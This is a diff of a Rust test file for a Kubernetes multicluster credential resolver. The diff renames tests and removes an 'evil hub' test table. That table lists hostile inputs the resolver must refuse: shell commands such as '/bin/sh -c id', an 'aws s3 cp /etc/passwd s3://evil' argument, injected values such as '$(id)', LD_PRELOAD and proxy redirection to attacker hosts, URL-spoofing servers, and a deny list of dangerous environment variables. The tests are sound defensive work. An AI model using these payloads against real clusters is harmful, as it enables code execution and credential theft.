@@ -9,6 +9,8 @@ use crate::resolve::{Resolution, Resolver, Verdict};
 use serde_json::{Value, json};
 use std::path::Path;
 
+mod hostile_hub;
+
 const EKS: &str = "https://A1.gr7.eu-west-1.eks.amazonaws.com";
 const FILE: &str = r#"{"providers": [
   {"name": "corp", "execConfig": {"apiVersion": "client.authentication.k8s.io/v1", "command": "corp-login",
@@ -79,7 +81,7 @@ fn told(name: &str, server: &str, extension: &Value) -> Value {
 }
 
 #[test]
-fn the_clouds_are_logged_in_to_with_their_own_tools() {
+fn built_in_plugin_of_each_cloud_is_used() {
     let rows = [
         (
             json!([{"name": "eks", "cluster": {"server": EKS}}]),
@@ -149,7 +151,7 @@ fn the_clouds_are_logged_in_to_with_their_own_tools() {
 
 /// OpenShift on Amazon's machines, as mc-enrich describes it.
 #[test]
-fn a_cloud_s_tool_is_for_its_own_kind_of_cluster() {
+fn built_in_plugin_is_for_clusters_of_its_cloud_only() {
     let providers = json!([{"name": "kubernetes", "cluster": {"server": EKS}}]);
     let properties = json!({"cluster.type": "kubernetes", "cloud.provider": "aws", "region": "eu-west-1"});
     let line = record(&providers, &properties);
@@ -160,7 +162,7 @@ fn a_cloud_s_tool_is_for_its_own_kind_of_cluster() {
 }
 
 #[test]
-fn the_file_s_order_selects_and_its_policies_bind() {
+fn order_and_policies_of_provider_file_apply() {
     let resolver = resolver(&["corp.example"], &[]);
     let cluster = |extensions: Value| json!({"server": "https://corp.example", "extensions": extensions});
     let prefix = "clusterprofiles.multicluster.x-k8s.io/exec";
@@ -193,7 +195,7 @@ fn the_file_s_order_selects_and_its_policies_bind() {
 }
 
 #[test]
-fn cluster_proxy_gets_the_hub_s_own_user_and_only_at_the_hub_s_address() {
+fn cluster_proxy_gets_hub_user_only_at_hub_address() {
     let proxy = |server: &str| {
         let cluster =
             json!({"server": server, "tls-server-name": "n", "certificate-authority-data": base64(&pem())});
@@ -228,319 +230,8 @@ fn cluster_proxy_gets_the_hub_s_own_user_and_only_at_the_hub_s_address() {
     }
 }
 
-/// What an evil hub may try, and the rule that stops it.
 #[test]
-fn an_evil_hub_obtains_nothing() {
-    let at = |name: &str, server: &str| json!([{"name": name, "cluster": {"server": server}}]);
-    let with = |field: &str, value: Value| json!([{"name": "eks", "cluster": {"server": EKS, field: value}}]);
-    let extension = |name: &str, value: Value| {
-        let name = format!("clusterprofiles.multicluster.x-k8s.io/exec/{name}");
-        json!([{"name": "corp", "cluster": {"server": "https://corp.example", "extensions": [{"name": name, "extension": value}]}}])
-    };
-    let none = json!({});
-    let exec = |command: &str, args: &str| json!({"auth.exec.command": command, "auth.exec.args": args});
-    let rows: Vec<(&str, Value, Value)> = vec![
-        ("command", at("eks", EKS), exec("/bin/sh", "-c,touch /tmp/x")),
-        ("command", at("eks", EKS), exec("sh", "-c,id")),
-        ("command", at("eks", EKS), exec("/tmp/aws", "eks,get-token")),
-        ("command", at("eks", EKS), exec("../aws", "eks,get-token")),
-        ("command", at("eks", EKS), exec("aws\n", "")),
-        (
-            "command",
-            at("x", "https://corp.example"),
-            exec("my-plugin", "token,--cluster,-x"),
-        ),
-        (
-            "command",
-            at("x", "https://corp.example"),
-            exec("my-plugin", "token,--cluster,a,--more"),
-        ),
-        (
-            "arguments",
-            at("eks", EKS),
-            exec("aws", "s3,cp,/etc/passwd,s3://evil"),
-        ),
-        (
-            "arguments",
-            at("eks", EKS),
-            exec("aws", "eks,get-token,--endpoint-url,https://evil.example"),
-        ),
-        (
-            "arguments",
-            at("eks", EKS),
-            exec("aws", "eks,get-token,--profile,root"),
-        ),
-        ("arguments", at("eks", EKS), json!({"region": "eu-west-1; id"})),
-        (
-            "arguments",
-            at("eks", EKS),
-            json!({"cluster.name": "--endpoint-url=https://evil.example"}),
-        ),
-        ("arguments", at("eks", EKS), json!({"cluster.name": "../../etc"})),
-        ("arguments", at("eks", EKS), json!({"cluster.name": "a\u{1b}[2J"})),
-        (
-            "arguments",
-            at("gke", "https://a.gke.goog"),
-            exec("gke-gcloud-auth-plugin", "--x"),
-        ),
-        (
-            "arguments",
-            at("gke", "https://a.gke.goog"),
-            json!({"auth.exec.apiVersion": "v9"}),
-        ),
-        (
-            "arguments",
-            at("aks", "https://a.azmk8s.io"),
-            exec(
-                "kubelogin",
-                "get-token,--server-id,00000003-0000-0000-c000-000000000000",
-            ),
-        ),
-        (
-            "arguments",
-            at("aks", "https://a.azmk8s.io"),
-            json!({"tenant.id": "$(id)"}),
-        ),
-        (
-            "arguments",
-            extension("additional-args", json!(["a\u{0}b"])),
-            none.clone(),
-        ),
-        (
-            "environment",
-            extension("additional-envs", json!({"LD_PRELOAD": "/tmp/x.so"})),
-            none.clone(),
-        ),
-        (
-            "environment",
-            extension("additional-envs", json!({"path": "/tmp"})),
-            none.clone(),
-        ),
-        (
-            "environment",
-            extension("additional-envs", json!({"https_proxy": "http://evil"})),
-            none.clone(),
-        ),
-        (
-            "environment",
-            extension("additional-envs", json!({"AWS_ENDPOINT_URL_STS": "http://evil"})),
-            none.clone(),
-        ),
-        (
-            "server",
-            at("eks", "https://[::1%25.eks.amazonaws.com]"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "server",
-            at("eks", "https://evil!.eks.amazonaws.com"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "server",
-            at("eks", "https://m\u{fc}nchen.eks.amazonaws.com"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "environment",
-            extension("additional-envs", json!({"A=B": "x"})),
-            none.clone(),
-        ),
-        (
-            "malformed",
-            extension("additional-envs", json!([1])),
-            none.clone(),
-        ),
-        (
-            "malformed",
-            extension("additional-args", json!("x")),
-            none.clone(),
-        ),
-        (
-            "size",
-            extension("additional-args", json!(vec!["x"; 65])),
-            none.clone(),
-        ),
-        (
-            "http",
-            at("eks", "http://A1.gr7.eu-west-1.eks.amazonaws.com"),
-            none.clone(),
-        ),
-        (
-            "http",
-            at("eks", "HTTP://a.eks.amazonaws.com"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "server",
-            at("eks", "A1.gr7.eu-west-1.eks.amazonaws.com"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "server",
-            at("eks", "file:///etc/passwd"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "server",
-            at("eks", "https://a.eks.amazonaws.com@evil.example"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "server",
-            at("eks", "https://evil.example\\.eks.amazonaws.com"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "server",
-            at("eks", "https://evil.example/\r\nx: y"),
-            json!({"region": "eu-west-1"}),
-        ),
-        ("server", with("tls-server-name", json!("a b")), none.clone()),
-        (
-            "host",
-            at("eks", "https://evil.example"),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "host",
-            at("eks", "https://evil.example?.eks.amazonaws.com/")
-                .as_array()
-                .map(|_| at("eks", "https://eks.amazonaws.com.evil.example"))
-                .unwrap(),
-            json!({"region": "eu-west-1"}),
-        ),
-        (
-            "host",
-            at("eks", "https://10.0.0.1"),
-            json!({"region": "eu-west-1"}),
-        ),
-        ("host", at("gke", "https://34.1.2.3"), none.clone()),
-        ("host", at("gke", EKS), none.clone()),
-        ("host", at("corp", "https://elsewhere.example"), none.clone()),
-        (
-            "insecure",
-            with("insecure-skip-tls-verify", json!(true)),
-            none.clone(),
-        ),
-        (
-            "insecure",
-            with("insecure-skip-tls-verify", json!("true")),
-            none.clone(),
-        ),
-        (
-            "proxy",
-            with("proxy-url", json!("http://evil.example:3128")),
-            none.clone(),
-        ),
-        (
-            "ca-path",
-            with("certificate-authority", json!("/etc/passwd")),
-            none.clone(),
-        ),
-        (
-            "ca-path",
-            with("certificate-authority", json!("../../x")),
-            none.clone(),
-        ),
-        (
-            "ca",
-            with("certificate-authority-data", json!("%%%")),
-            none.clone(),
-        ),
-        (
-            "ca",
-            with("certificate-authority-data", json!(base64("not a certificate"))),
-            none.clone(),
-        ),
-        (
-            "size",
-            with("certificate-authority-data", json!("A".repeat(300_000))),
-            none.clone(),
-        ),
-        (
-            "size",
-            at("eks", &format!("https://{}.eks.amazonaws.com", "a".repeat(3000))),
-            none.clone(),
-        ),
-        ("size", json!([{"name": "x".repeat(1_100_000)}]), none.clone()),
-        ("size", json!(vec![json!({"name": "eks"}); 101]), none.clone()),
-        ("malformed", json!({"name": "eks"}), none.clone()),
-        ("malformed", json!(["eks"]), none.clone()),
-        (
-            "malformed",
-            json!([{"name": "eks", "cluster": "https://x"}]),
-            none.clone(),
-        ),
-        (
-            "malformed",
-            json!([{"name": "eks", "cluster": {"server": ["https://x"]}}]),
-            none.clone(),
-        ),
-    ];
-    // What runs other programs, reads and writes files, or leads elsewhere; by the tools that do.
-    let variables = [
-        "CLOUDSDK_PYTHON_ARGS",
-        "CLOUDSDK_PYTHON_SITEPACKAGES",
-        "CLOUDSDK_GSUTIL_PYTHON",
-        "CLOUDSDK_CONFIG",
-        "CLOUDSDK_PROXY_ADDRESS",
-        "CLOUDSDK_CORE_CUSTOM_CA_CERTS_FILE",
-        "CLOUDSDK_AUTH_ACCESS_TOKEN_FILE",
-        "AZURE_EXTENSION_DIR",
-        "AZURE_FEDERATED_TOKEN_FILE",
-        "AWS_PAGER",
-        "AWS_DATA_PATH",
-        "AWS_PROFILE",
-        "AWS_CONTAINER_CREDENTIALS_FULL_URI",
-        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
-        "AWS_WEB_IDENTITY_TOKEN_FILE",
-        "SSLKEYLOGFILE",
-        "HOSTALIASES",
-        "LESSOPEN",
-        "SSH_ASKPASS",
-        "_JAVA_OPTIONS",
-        "KRB5_CONFIG",
-        "XDG_DATA_HOME",
-        "ZDOTDIR",
-        "LUA_INIT",
-        "RES_OPTIONS",
-        "LOCALDOMAIN",
-        "USERPROFILE",
-        "CURL_HOME",
-        "VAULT_ADDR",
-        "OIDC_ISSUER_URL",
-        "ERL_FLAGS",
-        "NLSPATH",
-        "NETRC",
-        "VIMINIT",
-        "MAKEFLAGS",
-        "AWS_ACCESS_KEY_ID",
-        "CLOUDSDK_AUTH_ACCESS_TOKEN",
-        "ANYTHING_ELSE",
-    ];
-    let with_variable = |name: &str| extension("additional-envs", json!({ name: "x" }));
-    let rows = rows
-        .into_iter()
-        .chain(variables.map(|name| ("environment", with_variable(name), none.clone())));
-    let resolver = resolver(&["corp.example"], &["my-plugin token --cluster *"]);
-    for (rule, providers, properties) in rows {
-        let Resolution::Skip(skip) = resolved(&resolver, &record(&providers, &properties)) else {
-            panic!("{rule}: {providers:.200} {properties} gives access");
-        };
-        assert_eq!(skip.reason, Reason::Unresolved, "{}", skip.message);
-        assert!(
-            skip.message.contains(&format!("(rule {rule:?})")),
-            "{rule}: {}",
-            skip.message
-        );
-        assert!(!skip.message.chars().any(char::is_control), "{}", skip.message);
-        assert!(skip.message.len() < 1500, "{}", skip.message);
-    }
-}
-
-#[test]
-fn what_may_be_allowed_is_said_and_works() {
+fn refusal_says_how_to_allow_it() {
     let providers = json!([{"name": "eks", "cluster": {"server": "https://10.1.2.3"}}]);
     let properties = json!({"region": "eu-west-1"});
     let Resolution::Skip(skip) = resolved(&resolver(&[], &[]), &record(&providers, &properties)) else {
@@ -568,7 +259,7 @@ fn what_may_be_allowed_is_said_and_works() {
 }
 
 #[test]
-fn a_certificate_authority_that_is_encoded_twice_is_taken() {
+fn certificate_authority_encoded_twice_is_decoded() {
     let resolver = resolver(&[], &[]);
     for data in [base64(&pem()), base64(&base64(&pem()))] {
         let providers =
@@ -581,45 +272,9 @@ fn a_certificate_authority_that_is_encoded_twice_is_taken() {
     }
 }
 
-/// A record is judged again by whoever uses it.
-#[test]
-fn a_forged_record_is_no_licence() {
-    let resolver = resolver(&[], &[]);
-    for (rule, access) in [
-        (
-            "command",
-            json!({"provider": "eks", "server": EKS, "plugin": {"command": "/bin/sh", "args": ["-c", "id"]}}),
-        ),
-        ("command", json!({"provider": "unknown", "server": EKS})),
-        (
-            "arguments",
-            json!({"provider": "eks", "server": EKS, "plugin": {"command": "aws", "args": ["s3", "ls"]}}),
-        ),
-        (
-            "arguments",
-            json!({"provider": "eks", "server": EKS, "plugin": {"command": "aws", "args": ["eks", "get-token"]}}),
-        ),
-        (
-            "host",
-            json!({"provider": "eks", "server": "https://evil.example", "user": "hub"}),
-        ),
-        (
-            "http",
-            json!({"provider": "eks", "server": "http://hub.example", "user": "hub"}),
-        ),
-    ] {
-        let access: Access<'static> = serde_json::from_str::<Access<'_>>(&access.to_string())
-            .unwrap()
-            .into_owned();
-        let error = resolver.connection(&access, "prod").unwrap_err();
-        assert_eq!(error.reason, Reason::Unresolved);
-        assert!(error.message.contains(&format!("(rule {rule:?})")), "{error}");
-    }
-}
-
 /// Hosts are allowed for a credential, and a record has no say in which one that is.
 #[test]
-fn hosts_of_one_provider_are_no_hosts_of_another() {
+fn hosts_of_one_provider_are_not_allowed_for_another() {
     let mut resolver = resolver(&[], &["my-plugin token"]);
     let pattern = HostPattern::parse("corp.example").unwrap();
     resolver.policy.config.allowed_hosts = ["corp", "eks", "mine"]
@@ -650,7 +305,7 @@ fn hosts_of_one_provider_are_no_hosts_of_another() {
 
 /// What a plugin is told of a cluster is the provider file's to allow.
 #[test]
-fn only_a_provider_of_the_file_is_told_what_a_record_says() {
+fn plugin_config_is_passed_to_providers_of_the_file_only() {
     let resolver = resolver(&[], &[]);
     let access = json!({"provider": "open-cluster-management", "server": "https://hub.example:6443", "user": "hub",
         "plugin": {"config": {"audience": "x"}}});
@@ -661,23 +316,8 @@ fn only_a_provider_of_the_file_is_told_what_a_record_says() {
     assert!(made.cluster.extensions.is_none());
 }
 
-/// A line that was copied from the error must not allow more than the hub wants.
 #[test]
-fn a_line_that_would_allow_more_is_not_offered() {
-    for args in ["token,*", "token,a b"] {
-        let providers = json!([{"name": "mine", "cluster": {"server": "https://corp.example"}}]);
-        let exec = json!({"auth.exec.command": "my-plugin", "auth.exec.args": args});
-        let Resolution::Skip(skip) = resolved(&resolver(&["corp.example"], &[]), &record(&providers, &exec))
-        else {
-            panic!("a command");
-        };
-        assert!(!skip.message.contains("allowedCommands"), "{}", skip.message);
-        assert!(skip.message.contains("name a provider"), "{}", skip.message);
-    }
-}
-
-#[test]
-fn a_managed_cluster_gives_access_by_its_vendor_and_client_config() {
+fn managedcluster_gives_access_by_vendor_and_client_config() {
     let of = |server: &str, properties: &Value| {
         let line = json!({"kind": "Cluster", "cluster": "prod", "hub": "hub", "properties": properties,
             "clientConfigs": [{"server": server, "caBundle": base64(&pem())}]});
@@ -731,7 +371,7 @@ fn a_managed_cluster_gives_access_by_its_vendor_and_client_config() {
 }
 
 #[test]
-fn what_was_looked_at_is_told() {
+fn explanation_names_what_was_tried() {
     let resolver = resolver(&[], &[]);
     let line = record(&json!([{"name": "eks", "cluster": {"server": EKS}}]), &json!({}));
     let cluster: Cluster<'_> = serde_json::from_str(&line).unwrap();
@@ -753,7 +393,7 @@ fn what_was_looked_at_is_told() {
 
 /// Names that a hub alone may not give, and that the user allows in the configuration.
 #[test]
-fn flags_that_choose_an_identity_are_allowed_by_a_line_of_the_configuration() {
+fn identity_flags_are_allowed_by_configured_command_line() {
     let rows = [
         (
             EKS,
@@ -801,47 +441,8 @@ fn flags_that_choose_an_identity_are_allowed_by_a_line_of_the_configuration() {
     }
 }
 
-/// Where DNS lies, these would lead a token to whoever the hub wants.
 #[test]
-fn a_hub_does_not_say_how_a_cloud_s_own_hosts_are_verified() {
-    let made = |name: &str, server: &str, allow: &[&str]| {
-        let cluster = json!({"server": server, "tls-server-name": "evil.example", "certificate-authority-data": base64(&pem())});
-        let resolver = resolver(allow, &[]);
-        let properties = json!({"region": "eu-west-1"});
-        let access = access(
-            &resolver,
-            &json!([{"name": name, "cluster": cluster}]),
-            &properties,
-        );
-        let made = resolver.connection(&access, "prod").unwrap().cluster;
-        (
-            made.tls_server_name.is_some(),
-            made.certificate_authority_data.is_some(),
-        )
-    };
-    assert_eq!(made("eks", EKS, &[]), (false, true));
-    assert_eq!(made("aks", "https://n.azmk8s.io", &[]), (false, true));
-    for host in [
-        "a.gke.goog",
-        "connectgateway.googleapis.com",
-        "us-connectgateway.googleapis.com",
-    ] {
-        assert_eq!(
-            made("gke", &format!("https://{host}"), &[]),
-            (false, false),
-            "{host}"
-        );
-    }
-    // A cluster's own address has a certificate that only its own authority vouches for.
-    assert_eq!(made("gke", "https://10.1.2.3", &["10.1.2.3"]), (false, true));
-    assert_eq!(
-        made("corp", "https://corp.example", &["corp.example"]),
-        (true, true)
-    );
-}
-
-#[test]
-fn a_variable_that_is_refused_is_named_with_what_would_allow_it() {
+fn refused_variable_is_named_with_the_configuration_that_allows_it() {
     let name = "clusterprofiles.multicluster.x-k8s.io/exec/additional-envs";
     let set = |variables: Value| {
         json!([{"name": "corp", "cluster": {"server": "https://corp.example",
